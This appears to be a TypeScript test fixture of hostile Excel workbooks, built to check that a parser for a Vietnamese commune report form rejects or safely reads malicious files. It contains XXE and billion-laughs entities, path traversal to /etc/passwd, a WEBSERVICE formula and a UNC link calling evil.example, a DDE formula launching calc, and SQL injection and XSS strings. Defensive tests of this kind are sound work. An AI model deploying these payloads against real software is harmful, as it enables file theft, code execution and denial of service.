import {
  formBook,
  formRows,
  packed,
  sheetXml,
  SOUND_FIGURES,
  SOUND_ROWS,
  workbookParts,
  type FormCell,
} from './form.ts';
import type { HostileInput } from './hostile-input.ts';

const READ = { figures: SOUND_FIGURES };
const sheetPart = 'xl/worksheets/sheet1.xml';
const form = sheetXml(formRows());
/** A cell of this markup; "@" stands for its reference. */
const raw = (markup: string): FormCell => ({ xml: (reference) => markup.replaceAll('@', reference) });
const withSheet = (sheet: string) => formBook(SOUND_ROWS, { [sheetPart]: sheet }, 'stored');
/** The form with these as the figures of its first commune. */
const withFigures = (first: FormCell, second: FormCell) =>
  formBook([[1, 'Xã Vĩnh Hà', first, second], SOUND_ROWS[1]!]);

/** Workbooks whose parts say what no program should believe. */
export const WORKBOOKS: readonly HostileInput[] = [
  {
    what: 'an entity that is a file of the machine',
    bytes: () =>
      withSheet(
        `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${form.replace('Xã Vĩnh Hà', 'Xã Vĩnh Hà&xxe;')}`,
      ),
    outcome: { refused: 'file-corrupt' },
  },
  {
    what: 'entities that grow a billionfold',
    bytes: () => {
      const grow = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
      return withSheet(`<!DOCTYPE x [<!ENTITY e0 "ha">${grow.join('')}]>${form}`);
    },
    outcome: { refused: 'file-corrupt' },
  },
  {
    what: 'tags nested 200,000 deep',
    bytes: () =>
      withSheet(form.replace('<sheetData>', `${'<x>'.repeat(200_000)}${'</x>'.repeat(200_000)}<sheetData>`)),
    outcome: READ,
  },
  {
    what: 'a dimension of a thousand million rows',
    bytes: () => withSheet(sheetXml(formRows(), { before: '<dimension ref="A1:XFD1048576"/>' })),
    outcome: READ,
  },
  {
    what: 'a cell in the very last corner',
    bytes: () =>
      withSheet(
        sheetXml([...formRows()]).replace(
          '</sheetData>',
          '<row r="1048576"><c r="XFD1048576"><v>5</v></c></row></sheetData>',
        ),
      ),
    outcome: READ,
  },
  {
    what: 'cells at addresses that cannot be',
    bytes: () =>
      withSheet(
        form.replace(
          '</sheetData>',
          '<row r="7"><c r="ZZZZZ99999999"><v>5</v></c><c r="__proto__3"><v>6</v></c></row></sheetData>',
        ),
      ),
    outcome: READ,
  },
  {
    what: 'strings that are not in the table of strings',
    bytes: () =>
      withFigures(raw('<c r="@" t="s"><v>99999</v></c>'), raw('<c r="@" t="s"><v>__proto__</v></c>')),
    outcome: { figures: [8, 4] },
  },
  {
    what: '300,000 empty rows between two lines',
    bytes: () => {
      const rows = Array.from({ length: 300_000 }, (_, i) => `<row r="${i + 10}"/>`).join('');
      const last = '<row r="300020"><c r="A300020" t="inlineStr"><is><t>Người lập biểu</t></is></c></row>';
      return withSheet(form.replace('</sheetData>', `${rows}${last}</sheetData>`));
    },
    outcome: READ,
  },
  {
    what: 'merges that overlap and cover the whole sheet',
    bytes: () =>
      withSheet(
        sheetXml(formRows(), {
          after:
            '<mergeCells><mergeCell ref="F1:XFD1048576"/><mergeCell ref="G2:H9"/><mergeCell ref="A1:D1"/></mergeCells>',
        }),
      ),
    outcome: READ,
  },
  {
    what: '20,000 merges',
    bytes: () => {
      const merges = Array.from(
        { length: 20_000 },
        (_, i) => `<mergeCell ref="H${i * 2 + 1}:H${i * 2 + 2}"/>`,
      );
      return withSheet(sheetXml(formRows(), { after: `<mergeCells>${merges.join('')}</mergeCells>` }));
    },
    outcome: READ,
  },
  {
    what: 'merges that are no areas',
    bytes: () =>
      withSheet(
        sheetXml(formRows(), {
          after: '<mergeCells><mergeCell ref="D9:A1"/><mergeCell ref="x"/><mergeCell/></mergeCells>',
        }),
      ),
    outcome: READ,
  },
  {
    what: 'sheets named after what objects inherit',
    bytes: () =>
      packed(
        workbookParts([
          ['__proto__', form],
          ['constructor', sheetXml([['ghi chú']])],
          [`'; DROP TABLE facts;--`, sheetXml([['ghi chú']])],
          ['<img src=x onerror=alert(1)>', sheetXml([['ghi chú']])],
        ]),
      ),
    outcome: {
      ...READ,
      shows: ['__proto__', 'constructor', `'; DROP TABLE facts;--`, '<img src=x onerror=alert(1)>'],
    },
  },
  {
    what: '300 sheets',
    bytes: () =>
      packed(
        workbookParts([
          ['Biểu', form],
          ...Array.from({ length: 299 }, (_, i) => [`s${i}`, sheetXml([[i]])] as const),
        ]),
      ),
    outcome: { figures: SOUND_FIGURES },
  },
  {
    what: 'hidden sheets',
    bytes: () =>
      packed(
        workbookParts([
          ['Biểu', form],
          ['Ẩn', form, 'state="hidden"'],
          ['Ẩn kỹ', form, 'state="veryHidden"'],
        ]),
      ),
    outcome: { ...READ, says: ['hidden-sheet'] },
  },
  {
    what: 'a formula that asks another machine',
    bytes: () =>
      withFigures(
        raw(`<c r="@"><f>'\\\\evil\\share\\[b.xlsx]A'!A1</f><v>12</v></c>`),
        raw(`<c r="@"><f>WEBSERVICE("http://evil.example")</f><v>7</v></c>`),
      ),
    outcome: READ,
  },
  {
    what: 'a formula that starts a program',
    bytes: () => withFigures(raw(`<c r="@"><f>cmd|'/C calc'!A0</f><v>12</v></c>`), 7),
    outcome: READ,
  },
  {
    what: 'formulas that were never computed',
    bytes: () => withFigures(raw('<c r="@"><f>SUM(A1:A9)</f></c>'), raw('<c r="@"><f>1+1</f><v></v></c>')),
    outcome: { figures: [8, 4], says: ['formula-without-value'] },
  },
  ...['#REF!', '#N/A', '#DIV/0!', '#VALUE!', '#NAME?', '#NULL!', '#NUM!'].map((error): HostileInput => ({
    what: `the error ${error} for a figure`,
    bytes: () => withFigures(raw(`<c r="@" t="e"><f>A1/0</f><v>${error}</v></c>`), 7),
    outcome: { figures: [7, 8, 4], says: ['formula-error'] },
  })),
  {
    what: 'numbers that are none',
    bytes: () => withFigures(raw('<c r="@"><v>1e309</v></c>'), raw('<c r="@"><v>NaN</v></c>')),
    outcome: { figures: [8, 4] },
  },
  {
    what: 'a number written in hexadecimal and one with a line below',
    bytes: () => withFigures(raw('<c r="@"><v>0x10</v></c>'), raw('<c r="@"><v>1_000</v></c>')),
    outcome: { figures: [8, 4] },
  },
  {
    what: 'digits of full width',
    bytes: () => withFigures('１２', '７'),
    outcome: READ,
  },
  {
    what: 'a number of minus nothing',
    bytes: () => withFigures(raw('<c r="@"><v>-0</v></c>'), 7),
    outcome: { figures: [0, 7, 8, 4] },
  },
  {
    what: 'a number format of 100,000 characters',
    bytes: () =>
      formBook([[1, 'Xã Vĩnh Hà', raw('<c r="@" s="1"><v>12</v></c>'), 7], SOUND_ROWS[1]!], {
        'xl/styles.xml': `<styleSheet><numFmts><numFmt numFmtId="200" formatCode="${'0'.repeat(100_000)}"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="200"/></cellXfs></styleSheet>`,
      }),
    outcome: READ,
  },
  {
    what: 'a number format that would run for ever as a pattern',
    bytes: () =>
      formBook([[1, 'Xã Vĩnh Hà', raw('<c r="@" s="1"><v>12</v></c>'), 7], SOUND_ROWS[1]!], {
        'xl/styles.xml': `<styleSheet><numFmts><numFmt numFmtId="200" formatCode="${'[$-41E]'.repeat(9)}${'&quot;a'.repeat(50)}"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="200"/></cellXfs></styleSheet>`,
      }),
    outcome: READ,
  },
  {
    what: 'styles that point nowhere',
    bytes: () =>
      withFigures(raw('<c r="@" s="999999999"><v>12</v></c>'), raw('<c r="@" s="-1"><v>7</v></c>')),
    outcome: READ,
  },
  {
    what: 'a text of ten megabytes in one cell',
    bytes: () => formBook([...SOUND_ROWS, [null, 'dài '.repeat(2_600_000)]], {}, 'stored'),
    outcome: READ,
  },
  {
    what: 'control characters in a name',
    bytes: () => formBook([[1, 'Xã\u0001 Vĩnh\u0008 Hà_x0000_', 12, 7], SOUND_ROWS[1]!]),
    outcome: READ,
  },
  {
    what: 'a sheet cut in the middle of its rows',
    bytes: () => withSheet(form.slice(0, form.indexOf('</sheetData>') - 40)),
    outcome: { refused: 'file-corrupt' },
  },
  {
    what: 'a sheet that is missing',
    bytes: () => formBook(SOUND_ROWS, { [sheetPart]: null }),
    outcome: { refused: 'file-corrupt' },
  },
  {
    what: 'a workbook that lists no sheets',
    bytes: () => packed(workbookParts([])),
    outcome: { figures: [], says: ['sheet-without-figures'] },
  },
  {
    what: '16,384 columns',
    bytes: () =>
      formBook([
        ...SOUND_ROWS,
        ...[Array.from({ length: 16_384 }, (_, i) => (i === 1 ? 'Ghi chú' : null) as FormCell)],
      ]),
    outcome: READ,
  },
  {
    what: 'a sheet that is its own relation',
    bytes: () =>
      formBook(SOUND_ROWS, {
        'xl/worksheets/_rels/sheet1.xml.rels':
          '<Relationships><Relationship Id="a" Type="x/comments" Target="../worksheets/sheet1.xml"/><Relationship Id="b" Type="x/drawing" Target="../../../../etc/passwd"/></Relationships>',
      }),
    outcome: READ,
  },
  {
    what: 'a comment with markup',
    bytes: () =>
      formBook(SOUND_ROWS, {
        'xl/worksheets/_rels/sheet1.xml.rels':
          '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" Target="../comments1.xml"/></Relationships>',
        'xl/comments1.xml':
          '<comments><commentList><comment ref="C4"><text><t>&lt;img src=x onerror=alert(1)&gt;</t></text></comment></commentList></comments>',
      }),
    outcome: READ,
  },
  {
    what: 'a part in a coding that it does not have',
    bytes: () => withSheet(`<?xml version="1.0" encoding="UTF-7"?>${form}`),
    outcome: READ,
  },
];
